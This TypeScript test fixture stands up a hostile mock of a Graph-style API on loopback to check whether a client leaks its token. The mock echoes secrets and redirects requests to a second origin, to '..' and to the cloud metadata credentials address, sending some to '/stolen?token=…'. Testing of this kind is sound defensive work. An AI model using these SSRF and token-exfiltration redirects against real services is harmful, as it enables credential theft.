/**
 * A target that tries what an attacker would, on loopback, with a second server standing for "another origin":
 *
 * - it echoes the token it is sent, in clear, JSON-escaped and base64, into typed properties, property names, headers
 *   and the reason phrase (`418 OK <token>`), and echoes a CI secret it should not know (`canary`);
 * - it answers a POST with a `Location` elsewhere: on the other origin, outside the collection, at `..`;
 * - it hands out upload URLs and download redirects on the other origin and at the cloud metadata address, by IP and
 *   by a name that resolves there; `@odata.nextLink`s to the other origin; redirects for everything else.
 *
 * Both servers record every request with its Authorization header, so a test can tell where the token went.
 */
import http from 'node:http';
import { randomUUID } from 'node:crypto';
import { listenOnLoopback, type Listening } from './loopback-server.ts';

export interface Recorded {
  readonly server: 'target' | 'elsewhere';
  readonly method: string;
  readonly url: string;
  readonly authorization: string | undefined;
}

export interface HostileTarget {
  readonly url: string;
  /** The other origin. */
  readonly elsewhere: string;
  readonly requests: Recorded[];
  close(): Promise<void>;
}

/** Where the cloud metadata service answers, by address and by a name the test points there. */
export const METADATA_IP = '169.254.169.254';
export const METADATA_NAME = 'metadata.hostile.test';

export async function startHostileTarget(echo: {
  readonly token: string;
  readonly secret: string;
}): Promise<HostileTarget> {
  const requests: Recorded[] = [];
  const { token, secret } = echo;
  /** The token's first character JSON-escaped: the same string to a JSON reader, another text to a plain search. */
  const escaped = `\\u${token.charCodeAt(0).toString(16).padStart(4, '0')}${token.slice(1)}`;
  const base64 = Buffer.from(token).toString('base64');
  let posts = 0;
  let sessions = 0;
  let downloads = 0;

  const elsewhere = await listen((req, res) => {
    requests.push(record('elsewhere', req));
    if (/^\/up\//.test(req.url ?? '')) {
      if (req.method === 'DELETE') return reply(res, 204, '');
      return json(res, req.method === 'GET' ? 200 : 202, {
        expirationDateTime: '2030-01-01T00:00:00Z',
        nextExpectedRanges: ['26-'],
      });
    }
    if (/^\/download\//.test(req.url ?? ''))
      return reply(res, 206, 'x'.repeat(26), { 'Content-Type': 'application/octet-stream' });
    return json(res, 404, graphError('NotFound', 'nothing here'));
  });

  const target = await listen((req, res) => {
    requests.push(record('target', req));
    const path = new URL(req.url ?? '/', 'http://127.0.0.1').pathname;
    const echoes = {
      'x-echo': token,
      'x-echo-base64': base64,
      'x-secret': secret,
      'Content-Type': `application/json; charset=utf-8; x-echo=${token}`,
    };
    const photo = /^\/(beta|v1\.0)\/(me|users\/[^/]+)\/photos$/.exec(path);
    if (photo) {
      if (req.method === 'GET')
        return json(res, 200, { '@odata.type': '#microsoft.graph.profilePhoto', id: '1', height: 240, width: 240 });
      if (photo[2] === 'me') {
        // A typed property holds the token (the schema step names the value), one is named by it (strict names it),
        // and the raw text holds it JSON-escaped, base64 and beside the secret.
        const text = JSON.stringify({
          '@odata.type': '#microsoft.graph.profilePhoto',
          id: '1',
          height: token,
          width: 5,
          [token]: 1,
          note: base64,
          secret,
        }).replace(/}$/, `,"escaped":"${escaped}"}`);
        return reply(res, 200, text, echoes);
      }
      return reply(res, 418, JSON.stringify(graphError(token, `${secret} ${escaped}`)), echoes, `OK ${token}`);
    }
    if (req.method === 'POST' && path === '/v1.0/groups') {
      const n = posts++;
      const location = [
        `${elsewhere.url}/v1.0/groups/g-${String(n)}`,
        '/v1.0/users/victim',
        `${target.url}/v1.0/groups/..`,
      ][n % 3];
      return json(
        res,
        201,
        { displayName: token, description: escaped, mailNickname: secret },
        { Location: location ?? '' },
      );
    }
    if (req.method === 'POST' && path.endsWith('/createUploadSession')) {
      const n = sessions++;
      const uploadUrl = [
        `${elsewhere.url}/up/${randomUUID()}`,
        `http://${METADATA_IP}/latest/meta-data/iam/security-credentials/`,
        `http://${METADATA_NAME}/latest/meta-data/`,
      ][n % 3];
      return json(res, 200, { uploadUrl, expirationDateTime: '2030-01-01T00:00:00Z', nextExpectedRanges: ['0-'] });
    }
    if (req.method === 'GET' && path.endsWith('/content')) {
      const n = downloads++;
      const location =
        n % 2 === 0 ? `http://${METADATA_IP}/latest/meta-data/` : `${elsewhere.url}/download/${randomUUID()}`;
      return reply(res, 302, '', { Location: location });
    }
    if (req.method === 'GET' && path === '/v1.0/users/delta') {
      return json(res, 200, {
        '@odata.context': 'https://graph.microsoft.com/v1.0/$metadata#users',
        '@odata.nextLink': `${elsewhere.url}/v1.0/users/delta?$skiptoken=${token}`,
        value: [{ id: '1', displayName: secret }],
      });
    }
    if (req.method === 'DELETE') return reply(res, 204, '');
    return reply(res, 307, '', { Location: `${elsewhere.url}/stolen?token=${token}` });
  });

  return {
    url: target.url,
    elsewhere: elsewhere.url,
    requests,
    close: async () => {
      await target.close();
      await elsewhere.close();
    },
  };
}

function record(server: Recorded['server'], req: http.IncomingMessage): Recorded {
  return { server, method: req.method ?? '', url: req.url ?? '', authorization: req.headers.authorization };
}

/** Handlers answer with `reply` or `json`, which say they did (`true`), so each branch can return its answer. */
type Handler = (req: http.IncomingMessage, res: http.ServerResponse) => true;

function listen(handler: Handler): Promise<Listening> {
  const server = http.createServer((req, res) => {
    req.resume(); // the body is not read: only where a request went, and with what token
    req.on('end', () => {
      handler(req, res);
    });
  });
  return listenOnLoopback(server);
}

function graphError(code: string, message: string): unknown {
  return { error: { code, message, innerError: { 'request-id': randomUUID() } } };
}

function json(res: http.ServerResponse, status: number, body: unknown, headers: Record<string, string> = {}): true {
  return reply(res, status, JSON.stringify(body), { 'Content-Type': 'application/json', ...headers });
}

function reply(
  res: http.ServerResponse,
  status: number,
  text: string,
  headers: Record<string, string> = {},
  reason?: string,
): true {
  const head = { 'Content-Length': String(Buffer.byteLength(text)), ...headers };
  if (reason === undefined) res.writeHead(status, head);
  else res.writeHead(status, reason, head);
  res.end(text);
  return true;
}
